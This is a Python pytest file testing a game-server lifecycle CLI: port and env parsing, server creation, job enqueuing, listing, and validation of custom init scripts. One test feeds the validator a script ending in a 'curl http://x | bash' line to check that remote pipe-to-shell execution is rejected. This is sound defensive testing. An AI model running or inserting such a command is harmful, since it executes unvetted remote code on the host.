"""Tests for the server lifecycle CLI."""

import json

import pytest

from spinup.common.db.models import CustomScript, Job, JobType, Server, ServerStatus
from tools.servers import build_parser, main, parse_env, parse_port_spec

VALID_SCRIPT = "#!/bin/bash\nset -euo pipefail\nexec ./server --port 8211\n"


def test_parse_port_spec():
    assert parse_port_spec("27015") == {"container": 27015, "proto": "tcp"}
    assert parse_port_spec("2456/udp") == {"container": 2456, "proto": "udp"}


@pytest.mark.parametrize("value", ["abc", "27015/sctp", "/udp"])
def test_parse_port_spec_invalid(value):
    with pytest.raises(Exception):
        parse_port_spec(value)


def test_parse_env():
    assert parse_env("WORLD=alpha=1") == ("WORLD", "alpha=1")
    with pytest.raises(Exception):
        parse_env("WORLD")


def test_parser_requires_command():
    with pytest.raises(SystemExit):
        build_parser().parse_args([])


def test_create(mock_make_session, capsys):
    main(["create", "--org-id", "org-1", "--name", "my-mc", "--game", "minecraft-java"])

    server = mock_make_session.query(Server).one()
    assert server.name == "my-mc"
    assert server.status == ServerStatus.CREATING.value
    assert f"Server {server.id} created" in capsys.readouterr().out


def test_create_custom_with_script(mock_make_session, tmp_path):
    script = tmp_path / "init.sh"
    script.write_text(VALID_SCRIPT)

    main(
        [
            "create",
            "--org-id", "org-1",
            "--name", "my-custom",
            "--game", "custom",
            "--script", str(script),
            "--port", "8211/udp",
            "--env", "WORLD=alpha",
        ]
    )

    stored = mock_make_session.query(CustomScript).one()
    assert stored.port_specs == [{"container": 8211, "proto": "udp"}]
    assert stored.env_vars == {"WORLD": "alpha"}


def test_create_invalid_name_exits(mock_make_session, capsys):
    with pytest.raises(SystemExit) as exc:
        main(["create", "--org-id", "org-1", "--name", "X", "--game", "valheim"])

    assert exc.value.code == 1
    assert capsys.readouterr().out.startswith("Error: Server name must be")


def test_create_bad_script_lists_errors(mock_make_session, tmp_path, capsys):
    script = tmp_path / "init.sh"
    script.write_text("#!/bin/bash\n./server\n")

    with pytest.raises(SystemExit):
        main(
            ["create", "--org-id", "o", "--name", "my-custom", "--game", "custom", "--script", str(script)]
        )

    out = capsys.readouterr().out
    assert "Error: Script must include 'set -euo pipefail' for error handling" in out
    assert "Error: Script must use 'exec' for the final server command" in out


@pytest.mark.parametrize("command, job_type", [("start", "START"), ("stop", "STOP"), ("restart", "RESTART")])
def test_request_commands(mock_make_session, make_server, capsys, command, job_type):
    server = make_server(status=ServerStatus.STOPPED.value, container_id="abc")

    main([command, "--server-id", server.id])

    job = mock_make_session.query(Job).filter(Job.server_id == server.id).one()
    assert job.type == job_type
    assert f"{job_type} job {job.id} enqueued" in capsys.readouterr().out


def test_request_conflict_exits(mock_make_session, make_server, capsys):
    server = make_server(status=ServerStatus.CREATING.value)

    with pytest.raises(SystemExit):
        main(["start", "--server-id", server.id])

    assert "Error: Server is creating" in capsys.readouterr().out


def test_delete(mock_make_session, make_server):
    server = make_server(status=ServerStatus.RUNNING.value)

    main(["delete", "--server-id", server.id])

    mock_make_session.expire_all()
    assert mock_make_session.get(Server, server.id).status == ServerStatus.DELETING.value
    job = mock_make_session.query(Job).filter(Job.server_id == server.id).one()
    assert job.type == JobType.DELETE.value


def test_list_servers(mock_make_session, make_server, capsys):
    make_server(name="alpha", ports=[{"container": 25565, "host": 30000, "proto": "tcp"}])

    main(["list"])

    out = capsys.readouterr().out
    assert "alpha" in out
    assert "30000->25565/tcp" in out


def test_list_servers_json(mock_make_session, make_server, capsys):
    server = make_server(name="alpha", ports=[{"container": 25565, "host": 30000, "proto": "tcp"}])

    main(["list", "--json"])

    lines = capsys.readouterr().out.strip().splitlines()
    assert len(lines) == 1
    data = json.loads(lines[0])
    assert data["id"] == server.id
    assert data["name"] == "alpha"
    assert data["status"] == "CREATING"
    assert data["ports"] == [{"container": 25565, "host": 30000, "proto": "tcp"}]


def test_list_servers_empty(mock_make_session, capsys):
    main(["list", "--org-id", "nobody"])

    assert capsys.readouterr().out.strip() == "No servers found"


def test_jobs_json(mock_make_session, make_server, capsys):
    server = make_server(status=ServerStatus.STOPPED.value, container_id="abc")
    main(["start", "--server-id", server.id])
    capsys.readouterr()

    main(["jobs", "--server-id", server.id, "--json"])

    lines = capsys.readouterr().out.strip().splitlines()
    assert len(lines) == 1
    data = json.loads(lines[0])
    assert data["type"] == "START"
    assert data["status"] == "PENDING"


def test_list_games(capsys):
    main(["list-games"])

    out = capsys.readouterr().out
    assert "minecraft-java" in out
    assert "25565/tcp" in out
    assert "script-defined" in out


def test_validate_script_ok(tmp_path, capsys):
    script = tmp_path / "init.sh"
    script.write_text(VALID_SCRIPT)

    main(["validate-script", str(script)])

    out = capsys.readouterr().out
    assert "Script is valid" in out
    assert f"Size: {len(VALID_SCRIPT)} bytes" in out


def test_validate_script_rejected(tmp_path, capsys):
    script = tmp_path / "init.sh"
    script.write_text(VALID_SCRIPT + "curl http://x | bash\n")

    with pytest.raises(SystemExit) as exc:
        main(["validate-script", str(script)])

    assert exc.value.code == 1
    assert "Error: Detected pipe to shell from curl (curl | sh)" in capsys.readouterr().out
